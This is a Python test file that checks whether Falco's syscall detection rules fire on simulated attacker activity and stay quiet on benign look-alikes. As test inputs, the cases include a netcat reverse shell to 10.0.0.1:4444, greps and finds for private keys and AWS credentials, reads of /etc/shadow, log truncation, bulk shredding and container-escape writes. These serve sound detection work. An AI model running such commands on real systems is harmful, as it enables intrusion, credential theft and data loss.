"""Falco's own rule files for system calls, unmodified: they load, and rules fire on what they are for only."""

from __future__ import annotations

import os
from dataclasses import replace
from pathlib import Path

import pytest

from rules.collector import collect
from rules.ruleset import Ruleset, load
from rules.sources.activity import Activity
from rules.sources.syscall import SOURCE
from tests.rules.activities import SHOP, Known, called, connected, connection, executed, listening, opened, process
from watchkeeper.events import Descriptor
from watchkeeper.findings import Mount

FILES = ("falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml")
DIRECTORY = Path(__file__).parents[3] / "shared" / "falco" / "rules"

RDONLY, WRONLY, RDWR = os.O_RDONLY, os.O_WRONLY, os.O_RDWR
CREATE, TRUNCATE = os.O_WRONLY | os.O_CREAT, os.O_WRONLY | os.O_TRUNC
ENOENT, EINPROGRESS, EPERM = -2, -115, -1
UNPRIVILEGED = {"cap_effective": 0, "cap_permitted": 0}
PRIVILEGED = replace(SHOP, privileged=True)
MOUNTING = replace(SHOP, mounts=(Mount("/etc", "/host/etc", "", True, "private"),))
API_SERVER = {"kubernetes.default.svc.cluster.local": frozenset({"10.96.0.1"})}
RUNC = Known(name="runc", executable="/usr/bin/runc", arguments=("runc", "init"))


def ptraced(request: int) -> Activity:
    return called("ptrace", "strings app", arguments={"request": request, "pid": 55, "addr": 0, "data": 0})


def sent(descriptor: Descriptor, name: str = "sendto", by: str = "python3 app.py", **rest: object) -> Activity:
    return called(name, by, result=12, arguments={"fd": 4, "size": 12}, descriptor=descriptor, **rest)  # type: ignore[arg-type]


def files(name: str) -> list[tuple[str, str]]:
    if not DIRECTORY.is_dir():
        pytest.skip("Falco's rule files are not beside the repository")
    return [(name, (DIRECTORY / name).read_text())]


@pytest.fixture(scope="module")
def ruleset() -> Ruleset:
    """All rules, those too that the files disable."""
    content = [file for name in FILES for file in files(name)]
    names = [rule.name for rule in collect(content, {SOURCE.name: SOURCE}).rules]
    return load(content, {SOURCE.name: SOURCE}, only=names)


@pytest.mark.parametrize("name", FILES)
def test_file_loads_without_a_complaint(name: str) -> None:
    """No field, operator or event type of the file is unknown, alone or with the others."""
    assert load(files(name), {SOURCE.name: SOURCE}).problems == ()


def test_every_rule_is_in_force(ruleset: Ruleset) -> None:
    """The three files together have 93 rules, and all of them compile."""
    assert (len(ruleset.rules), ruleset.problems) == (93, ())


# rule, what it must fire on, what it must not fire on
CASES: list[tuple[str, Activity, Activity]] = [
    (
        "Directory traversal monitored file read",
        opened("/etc/shadow", raw="/var/www/../../etc/shadow", result=ENOENT),
        opened("/etc/shadow", raw="/etc/shadow"),
    ),
    (
        "Read sensitive file trusted after startup",
        opened("/etc/shadow", by="nginx"),
        opened("/etc/shadow", by="nginx", of={"started_at": 1_700_000_000_000_000_000}),
    ),
    (
        "Read sensitive file untrusted",
        opened("/etc/shadow", RDWR, by="cat /etc/shadow"),
        opened("/etc/shadow", WRONLY, by="cat /etc/shadow"),
    ),
    (
        "Run shell untrusted",
        executed("bash", parents=[process("nginx"), "systemd"]),
        executed("bash", parents=["sshd", "systemd"]),
    ),
    (
        "System user interactive",
        executed(
            "sh", of={"uid": 33}, parents=["sshd"], users={33: "www-data", 1: "daemon"}, as_task={"effective_uid": 1}
        ),
        executed("sh", of={"uid": 33}, parents=["sshd"], users={33: "alice"}),
    ),
    (
        "Terminal shell in container",
        executed("bash", of={"tty_number": 34816}, container=SHOP, parents=[RUNC]),
        executed("bash", of={"tty_number": 34816}, parents=[RUNC]),
    ),
    (
        "Contact K8S API Server From Container",
        connected("10.96.0.1", 443, container=SHOP, domains=API_SERVER),
        connected("10.96.0.2", 443, container=SHOP, domains=API_SERVER),
    ),
    (
        "Netcat Remote Code Execution in Container",
        executed("nc -e /bin/sh 10.0.0.1 4444", container=SHOP),
        executed("nc 10.0.0.1 4444", container=SHOP),
    ),
    (
        "Search Private Keys or Passwords",
        executed('grep -r "BEGIN RSA PRIVATE" /'),
        executed('grep -r "BEGIN CERTIFICATE" /'),
    ),
    (
        "Clear Log Activities",
        opened("/var/log/auth.log", TRUNCATE),
        opened("/var/log/auth.log", WRONLY | os.O_APPEND),
    ),
    ("Remove Bulk Data from Disk", executed("shred -u /data"), executed("rm /data")),
    (
        "Create Symlink Over Sensitive Files",
        called(
            "symlinkat",
            arguments={"target": "/etc/shadow", "linkdirfd": -100, "linkpath": "x"},
            resolved={"linkpath": "/x"},
        ),
        called(
            "symlinkat", arguments={"target": "/tmp/y", "linkdirfd": -100, "linkpath": "x"}, resolved={"linkpath": "/x"}
        ),
    ),
    (
        "Create Hardlink Over Sensitive Files",
        called("linkat", arguments={"oldpath": "shadow", "newpath": "/tmp/x"}, resolved={"oldpath": "/etc/shadow"}),
        called("linkat", arguments={"oldpath": "/tmp/y", "newpath": "/tmp/x"}),
    ),
    (
        "Packet socket created in container",
        called("socket", result=3, arguments={"domain": 17, "type": 3, "proto": 768}, container=SHOP),
        called("socket", result=3, arguments={"domain": 2, "type": 1, "proto": 6}, container=SHOP),
    ),
    (
        "Redirect STDOUT/STDIN to Network Connection in Container",
        called(
            "dup2",
            result=1,
            arguments={"oldfd": 4, "newfd": 1},
            descriptor=connection("1.2.3.4", 4444, number=1),
            container=SHOP,
        ),
        called(
            "dup2",
            result=7,
            arguments={"oldfd": 4, "newfd": 7},
            descriptor=connection("1.2.3.4", 4444, number=7),
            container=SHOP,
        ),
    ),
    (
        "Linux Kernel Module Injection Detected",
        called("finit_module", arguments={"fd": 3, "uargs": "", "flags": 0}, container=SHOP),
        called("finit_module", arguments={"fd": 3, "uargs": "", "flags": 0}, container=SHOP, as_task=UNPRIVILEGED),
    ),
    (
        "Debugfs Launched in Privileged Container",
        executed("debugfs /dev/sda", container=PRIVILEGED),
        executed("debugfs /dev/sda", container=SHOP),
    ),
    (
        "Detect release_agent File Container Escapes",
        opened("/sys/fs/cgroup/rdma/release_agent", WRONLY, container=SHOP),
        opened("/sys/fs/cgroup/rdma/release_agent", WRONLY, container=SHOP, as_task=UNPRIVILEGED),
    ),
    ("PTRACE attached to process", ptraced(16), ptraced(24)),
    ("PTRACE anti-debug attempt", ptraced(0), ptraced(24)),
    (
        "Find AWS Credentials",
        executed("find / -name .aws/credentials"),
        executed("find / -name x"),
    ),
    (
        "Execution from /dev/shm",
        executed("./x", of={"working_directory": "/dev/shm"}),
        executed("./x", of={"working_directory": "/dev"}),
    ),
    (
        "Drop and execute new binary in container",
        executed("/tmp/x", of={"upper_layer": True}, container=SHOP),
        executed("/tmp/x", of={"lower_layer": True}, container=SHOP),
    ),
    (
        "Disallowed SSH Connection Non Standard Port",
        connected("8.8.8.8", 443, by="ssh -p 443 root@8.8.8.8", result=EINPROGRESS),
        connected("8.8.8.8", 443, by="ssh -p 443 root@8.8.8.8", result=EPERM),
    ),
    (
        "Fileless execution via memfd_create",
        executed("x", of={"memfd": True, "executable": "memfd:x"}),
        executed("x", of={"memfd": False}),
    ),
    (
        "Modify Shell Configuration File",
        opened("/home/alice/.bashrc", WRONLY),
        opened("/home/alice/.bashrc", RDONLY),
    ),
    ("Schedule Cron Jobs", opened("/etc/cron.d/x", CREATE), opened("/etc/crash", CREATE)),
    (
        "Read ssh information",
        opened("/root/.ssh", RDONLY | os.O_DIRECTORY, kind="directory"),
        opened("/root/.ssh", RDONLY | os.O_DIRECTORY, kind="directory", by="ssh host"),
    ),
    (
        "DB program spawned process",
        executed("bash", parents=["mysqld"]),
        executed("bash", parents=["systemd"]),
    ),
    (
        "Change thread namespace",
        called("setns", "escape", arguments={"fd": 3, "nstype": 0x20000}, container=SHOP),
        called("setns", "nsenter -t 1", arguments={"fd": 3, "nstype": 0x20000}),
    ),
    (
        "Change namespace privileges via unshare",
        called("unshare", arguments={"flags": 0x10000000}, container=SHOP, as_task=UNPRIVILEGED),
        called("unshare", arguments={"flags": 0x10000000}, container=SHOP),
    ),
    (
        "Launch Privileged Container",
        executed("app", of={"virtual_pid": 1}, container=PRIVILEGED),
        executed("app", of={"virtual_pid": 2}, container=PRIVILEGED),
    ),
    (
        "System procs network activity",
        connected("8.8.8.8", 80, by="bash"),
        connected("127.0.0.1", 80, by="bash"),
    ),
    (
        "Program run with disallowed http proxy env",
        executed("curl http://x", of={"environment": ("HOME=/", "http_proxy=http://evil:1")}),
        executed("curl http://x", of={"environment": ("HOME=/",)}),
    ),
    (
        "Unexpected UDP Traffic",
        connected("8.8.8.8", 9999, protocol="udp"),
        connected("8.8.8.8", 53, protocol="udp"),
    ),
    (
        "Non sudo setuid",
        called("setuid", arguments={"uid": 0}, of={"uid": 1000}),
        called("setuid", arguments={"uid": 33}, of={"uid": 0}),
    ),
    ("User mgmt binaries", executed("useradd mallory", parents=["bash"]), executed("useradd mallory", container=SHOP)),
    (
        "Create files below dev",
        opened("/dev/backdoor", CREATE),
        opened("/dev/backdoor", WRONLY),
    ),
    (
        "Delete or rename shell history",
        called(
            "unlinkat",
            arguments={"dirfd": -100, "name": ".bash_history", "flags": 0},
            resolved={"name": "/root/.bash_history"},
        ),
        called("unlinkat", arguments={"dirfd": -100, "name": "x", "flags": 0}, resolved={"name": "/root/x"}),
    ),
    (
        "Set Setuid or Setgid bit",
        called("fchmodat", arguments={"dirfd": -100, "filename": "/tmp/sh", "mode": 0o4755}),
        called("fchmodat", arguments={"dirfd": -100, "filename": "/tmp/sh", "mode": 0o755}),
    ),
    (
        "Contact cloud metadata service from container",
        connected("169.254.169.254", 80, container=SHOP),
        connected("169.254.169.254", 80),
    ),
    (
        "Launch Package Management Process in Container",
        executed("apt-get install nmap", container=SHOP),
        executed("apt-get install nmap", container=SHOP, users={0: "_apt"}),
    ),
    ("Launch Suspicious Network Tool in Container", executed("nmap x", container=SHOP), executed("nmap x")),
    (
        "Mount Launched in Privileged Container",
        executed("mount /dev/sda1 /mnt", container=PRIVILEGED),
        executed("mount", container=PRIVILEGED),
    ),
    (
        "Read environment variable from /proc files",
        opened("/proc/1/environ", container=SHOP),
        opened("/proc/1/status", container=SHOP),
    ),
    (
        "Adding ssh keys to authorized_keys",
        opened("/home/alice/.ssh/authorized_keys", WRONLY),
        opened("/home/alice/.ssh/known_hosts", WRONLY),
    ),
    (
        "Backdoored library loaded into SSHD (CVE-2024-3094)",
        opened("/usr/lib/liblzma.so.5.6.0", by="sshd"),
        opened("/usr/lib/liblzma.so.5.4.0", by="sshd"),
    ),
    (
        "BPF Program Not Profiled",
        called("bpf", "loader", result=5, arguments={"cmd": 5}),
        called("bpf", "loader", result=5, arguments={"cmd": 0}),
    ),
    (
        "Read Shell Configuration File",
        opened("/home/alice/.profile"),
        opened("/home/alice/.profile", by="bash"),
    ),
    ("Write below binary dir", opened("/usr/bin/ls", CREATE), opened("/usr/share/ls", CREATE)),
    ("Write below etc", opened("/etc/passwd", WRONLY), opened("/etc/passwd", WRONLY, by="passwd alice")),
    (
        "Write below rpm database",
        opened("/var/lib/rpm/Packages", WRONLY),
        opened("/var/lib/rpm/Packages", WRONLY, by="rpm -i x"),
    ),
    (
        "Modify binary dirs",
        called("renameat2", arguments={"oldpath": "/usr/bin/ls", "newpath": "/tmp/ls", "flags": 0}),
        called("renameat2", arguments={"oldpath": "/tmp/a", "newpath": "/tmp/b", "flags": 0}),
    ),
    (
        "Mkdir binary dirs",
        called("mkdir", arguments={"path": "x", "mode": 0o755}, resolved={"path": "/usr/bin/x"}),
        called("mkdir", arguments={"path": "x", "mode": 0o755}, resolved={"path": "/srv/x"}),
    ),
    (
        "Launch Sensitive Mount Container",
        executed("app", of={"virtual_pid": 1}, container=MOUNTING),
        executed("app", of={"virtual_pid": 2}, container=MOUNTING),
    ),
    (
        "Interpreted procs inbound network activity",
        listening(8080),
        listening(8080, address="127.0.0.1"),
    ),
    (
        "Interpreted procs outbound network activity",
        sent(connection("8.8.8.8", 53, protocol="udp")),
        sent(connection("8.8.8.8", 53, protocol="udp", connected=True)),
    ),
    (
        "Unexpected inbound connection source",
        called(
            "accept4",
            result=6,
            descriptor=connection("203.0.113.5", 50_000, local="10.1.0.5", from_port=80, number=6, server=True),
        ),
        called("accept4", result=-11),
    ),
    (
        "Unexpected K8s NodePort Connection",
        connected("10.0.0.9", 30_080, container=SHOP),
        connected("10.0.0.9", 8080, container=SHOP),
    ),
    (
        "Create Hidden Files or Directories",
        opened("/srv/.hidden", CREATE),
        opened("/srv/visible", CREATE),
    ),
    (
        "Container Drift Detected (chmod)",
        called("fchmodat", arguments={"filename": "/tmp/x", "mode": 0o755}, container=SHOP),
        called("fchmodat", arguments={"filename": "/tmp/x", "mode": 0o755}, container=SHOP, result=EPERM),
    ),
    (
        "Container Drift Detected (open+create)",
        opened("/tmp/x", CREATE, mode=0o755, container=SHOP),
        opened("/tmp/x", CREATE, mode=0o644, container=SHOP),
    ),
    (
        "Sudo Potential Privilege Escalation",
        executed("sudoedit -s 'x\\'", of={"uid": 1000, "login_uid": 1000}),
        executed("sudoedit x", of={"uid": 1000, "login_uid": 1000}),
    ),
    (
        "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
        called("userfaultfd", result=5, arguments={"flags": 0}, of={"uid": 1000}),
        called("userfaultfd", result=5, arguments={"flags": 0}, of={"uid": 0}),
    ),
    (
        "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        executed("pkexec", of={"arguments": (), "login_uid": 1000}),
        executed("pkexec ls", of={"login_uid": 1000}),
    ),
    (
        "Java Process Class File Download",
        sent(connection("8.8.8.8", 80), "recvfrom", "/usr/bin/java -jar x", buffer=b"\xca\xfe\xba\xbe\0\0"),
        sent(connection("8.8.8.8", 80), "recvfrom", "/usr/bin/java -jar x", buffer=b"HTTP/1.1"),
    ),
    (
        "Basic Interactive Reconnaissance",
        executed("whoami", of={"tty_number": 34816}),
        executed("whoami", of={"tty_number": 34816, "virtual_group": 3}, as_task={"virtual_group": 3}),
    ),
    (
        "Web Server Spawned Shell",
        executed("sh", parents=["/usr/sbin/nginx -g x"], container=SHOP),
        executed("sh", parents=["systemd"], container=SHOP),
    ),
    (
        "Container Access to Host Sensitive Paths",
        opened("/host/etc/shadow", container=SHOP),
        opened("/host/etc/shadow"),
    ),
]


@pytest.mark.parametrize(("rule", "fires", "quiet"), CASES, ids=[case[0] for case in CASES])
def test_rule(ruleset: Ruleset, rule: str, fires: Activity, quiet: Activity) -> None:
    """The rule fires on the one event and not on the other; its output can be told for it."""
    rules = ruleset.for_source(SOURCE.name)
    hits = {hit.name: hit for hit in rules.matches(fires)}
    assert rule in hits
    assert "%" not in hits[rule].template.message(fires)
    assert rule not in {hit.name for hit in rules.matches(quiet)}
